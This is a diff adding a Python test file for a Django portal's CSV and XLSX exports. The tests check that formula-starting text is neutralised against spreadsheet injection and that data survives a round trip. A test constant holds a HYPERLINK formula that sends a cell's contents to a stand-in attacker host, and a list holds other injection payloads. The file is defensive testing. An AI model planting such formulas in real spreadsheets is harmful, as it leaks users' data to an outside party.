@@ -1,0 +1,141 @@
+"""Every CSV and XLSX export: formula-starting text neutralised (OWASP), XLSX cells of their real
+type (dates, numbers, never formulas) with the header row frozen, CSV that csv.Sniffer reads, and
+an export that imports back unchanged. XLSX is read with openpyxl, CSV with the csv module."""
+
+import csv
+import datetime
+import io
+
+import openpyxl
+import pytest
+from django.core.management import call_command
+
+from organisations.models import Organisation
+from panel.models import Attendance
+from portal import importing, spreadsheets
+from surveys.models import Answer
+from tests.panel.factories import attend, meeting, organisation
+from tests.surveys.factories import answer_data, make_conditional_questions, make_survey
+
+pytestmark = pytest.mark.django_db
+HYPERLINK = '=HYPERLINK("http://angriper.example/?d="&A1,"Klikk her")'
+HOSTILE = [HYPERLINK, "+1+2", "-2+3", "@SUM(A1)", "\tTab", "\rCR", "'=allerede sitert", "'vanlig apostrof"]
+
+
+def xlsx_rows(content):
+    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
+    return sheet, list(sheet.iter_rows())
+
+
+def csv_rows(content):
+    return list(csv.reader(io.StringIO(content.decode("utf-8"), newline="")))
+
+
+@pytest.fixture
+def hostile_survey_answer(client):
+    survey = make_survey()
+    score, attended, _meetings, why_not = make_conditional_questions(survey)
+    url = survey.get_public_url()
+    group = survey.groups.get(name="Kommunen").pk
+    data = answer_data(client, url, group=group, anonymous="yes",
+                       **{f"q{score.pk}": "3", f"q{attended.pk}": "no", f"q{why_not.pk}": HYPERLINK})
+    assert client.post(url, data).status_code == 302
+    assert Answer.objects.filter(value=HYPERLINK).exists()  # stored as typed
+    return survey
+
+
+@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
+def test_a_hyperlink_formula_typed_into_a_survey_answer_comes_out_inert(client, coordinator, hostile_survey_answer, file_format):
+    client.force_login(coordinator)
+    content = client.get(f"/koordinator/undersokelser/{hostile_survey_answer.pk}/svar.{file_format}").content
+    if file_format == "xlsx":
+        _sheet, rows = xlsx_rows(content)
+        cells = [cell for row in rows for cell in row]
+        assert all(cell.data_type != "f" for cell in cells)
+        (answer,) = [cell for cell in cells if "HYPERLINK" in str(cell.value)]
+        assert answer.data_type == "s" and answer.value == "'" + HYPERLINK
+    else:
+        values = [value for row in csv_rows(content) for value in row]
+        assert "'" + HYPERLINK in values
+        assert not any(value.startswith(("=", "+", "-", "@")) for value in values)
+
+
+@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
+def test_formula_starting_text_in_an_organisation_comes_out_inert(client, coordinator, file_format):
+    for n, text in enumerate(HOSTILE):
+        organisation(f"Forening {n}", description=text, municipality=text)
+    client.force_login(coordinator)
+    content = client.get(f"/koordinator/eksport/organisations.{file_format}").content
+    if file_format == "xlsx":
+        _sheet, rows = xlsx_rows(content)
+        header = [cell.value for cell in rows[0]]
+        column = header.index("description")
+        assert all(cell.data_type != "f" for row in rows for cell in row)
+        # XML (and so XLSX) reads a carriage return as a line feed.
+        written = [row[column].value.replace("\n", "\r") for row in rows[1:]]
+    else:
+        rows = csv_rows(content)
+        written = [row[rows[0].index("description")] for row in rows[1:]]
+    assert sorted(written) == sorted("'" + text for text in HOSTILE)
+
+
+@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
+def test_neutralised_text_imports_back_exactly_as_it_was_typed(tmp_path, file_format):
+    # (A leading tab or carriage return is trimmed by the import like any surrounding whitespace.)
+    kept = [text for text in HOSTILE if not text.startswith(("\t", "\r"))]
+    for n, text in enumerate(kept + ["Vanlig tekst", "-"]):
+        organisation(f"Forening {n}", description=text, website="")
+    before = sorted(Organisation.objects.values_list("name", "description"))
+    exported = importing.export_bytes("organisations", file_format)
+    Organisation.objects.all().delete()
+    (tmp_path / f"organisations.{file_format}").write_bytes(exported)
+    call_command("import_data", str(tmp_path))
+    assert sorted(Organisation.objects.values_list("name", "description")) == before
+
+
+def test_xlsx_has_date_and_number_cells_and_a_frozen_header(client, coordinator):
+    adle = organisation("Adle")
+    attend(meeting("2025-02-13", title="Vårmøte"), adle, 12)
+    meeting("2025-09-01", title="Høstmøte")
+    client.force_login(coordinator)
+
+    sheet, rows = xlsx_rows(client.get("/koordinator/eksport/attendance.xlsx").content)
+    assert sheet.freeze_panes == "A2"
+    assert [cell.value for cell in rows[0]] == ["meeting_date", "organisation", "participants"]
+    date_cell, name_cell, number_cell = rows[1]
+    assert date_cell.is_date and date_cell.value.date() == datetime.date(2025, 2, 13)
+    assert date_cell.number_format == "yyyy-mm-dd"
+    assert number_cell.data_type == "n" and number_cell.value == 12
+    assert name_cell.data_type == "s" and name_cell.value == "Adle"
+
+    sheet, rows = xlsx_rows(client.get("/koordinator/eksport/meetings.xlsx").content)
+    assert sheet.freeze_panes == "A2"
+    assert [cell.value.date() for cell in (row[0] for row in rows[1:])] == [datetime.date(2025, 2, 13), datetime.date(2025, 9, 1)]
+    assert all(row[0].is_date for row in rows[1:])
+
+
+def test_typed_xlsx_imports_back_unchanged(tmp_path):
+    adle = organisation("Adle")
+    attend(meeting("2025-02-13"), adle, 12)
+    before = list(Attendance.objects.values_list("meeting__date", "organisation__name", "participants"))
+    (tmp_path / "attendance.xlsx").write_bytes(importing.export_bytes("attendance", "xlsx"))
+    Attendance.objects.all().delete()
+    call_command("import_data", str(tmp_path))
+    assert list(Attendance.objects.values_list("meeting__date", "organisation__name", "participants")) == before
+
+
+def test_csv_is_recognised_by_csv_sniffer(client, coordinator):
+    organisation("Adle", description='Kultur, språk; og "leksehjelp"', municipality="Sandnes")
+    organisation("Baha'i", description="Tro\nog fellesskap")
+    client.force_login(coordinator)
+    text = client.get("/koordinator/eksport/organisations.csv").content.decode("utf-8")
+    dialect = csv.Sniffer().sniff(text)
+    assert dialect.delimiter == ","
+    assert csv.Sniffer().has_header(text)
+    rows = list(csv.reader(io.StringIO(text, newline=""), dialect))
+    assert rows[0][0] == "name" and {row[0] for row in rows[1:]} == {"Adle", "Baha'i"}
+
+
+def test_the_escape_rule_is_its_own_inverse():
+    for text in HOSTILE + ["", "'", "''", "vanlig", "-", "=", "a=b"]:
+        assert spreadsheets.restore(spreadsheets.neutralise(text)) == text
